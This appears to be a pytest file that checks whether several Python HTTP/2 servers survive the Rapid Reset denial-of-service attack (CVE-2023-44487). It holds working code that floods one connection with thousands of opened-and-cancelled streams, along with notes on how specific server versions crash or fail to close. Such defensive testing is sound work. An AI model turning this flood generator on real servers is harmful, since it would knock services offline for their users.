"""Rapid reset (CVE-2023-44487): thousands of requests opened and cancelled at once on one
connection. The server must cut the connection short, and serve everyone else meanwhile.
Cut short means closed: a GOAWAY says no new streams, but a server that keeps the
connection open goes on reading (and answering) every frame the attacker sends."""

import pytest
from hyperframe.frame import RstStreamFrame

from abuse import AbusiveConnection, http2_endpoints
from guard import guarded

PAIRS = 3000  # HEADERS + RST_STREAM(CANCEL) pairs, more than any server's per-connection request limit
PAIRS_PER_WRITE = 100
CANCEL = 0x8
WATCH_SECONDS = 5
FLAWS = {
    "quart_backend": "Hypercorn 0.18.0: reset streams stay in its priority tree; the 1001st raises "
    "priority.TooManyStreamsError, unhandled (ExceptionGroup traceback), connection dropped without GOAWAY; "
    "on a loaded machine it may instead answer with a GOAWAY NO_ERROR per frame and keep the connection open",
    "twisted_backend": "Twisted 26.10.0: a HEADERS and its RST_STREAM in one read make it render the already-closed "
    "stream: StreamIDTooLowError, then StreamClosedError logged as Unhandled Error, connection dropped without GOAWAY",
    "django_backend": "Daphne 4.2.3 (Twisted 26.10.0): GOAWAY ENHANCE_YOUR_CALM, then another GOAWAY for every frame "
    "after it (ENHANCE_YOUR_CALM, then PROTOCOL_ERROR), and the connection kept open",
}
# Where the attack crashes a server, the crash can reach the log after the test: Hypercorn
# prints its traceback when Python collects the failed task, Twisted while it still works
# through the queued frames on a loaded machine. So it runs after every other attack on a
# service (conftest.py), where it can be blamed on no other.


def rapid_resets(attacker: AbusiveConnection, first_stream: int, count: int) -> bytes:
    stream_ids = range(first_stream, first_stream + 2 * count, 2)
    return b"".join(
        attacker.headers_frame(stream_id, attacker.encoder.encode(attacker.request_headers()))
        + RstStreamFrame(stream_id, error_code=CANCEL).serialize()
        for stream_id in stream_ids
    )


@pytest.mark.parametrize("endpoint", http2_endpoints(FLAWS))
def test_rapid_reset(endpoint, observe):
    with guarded(endpoint), AbusiveConnection(endpoint) as attacker:
        for first_stream in range(1, 2 * PAIRS, 2 * PAIRS_PER_WRITE):
            attacker.send(rapid_resets(attacker, first_stream, PAIRS_PER_WRITE))
        verdict = observe(attacker.watch(WATCH_SECONDS))
        assert verdict.closed_after is not None, (
            f"{endpoint}: expected {PAIRS} HEADERS+RST_STREAM pairs on one connection to end it "
            f"(closed within {WATCH_SECONDS} s), saw {verdict}"
        )
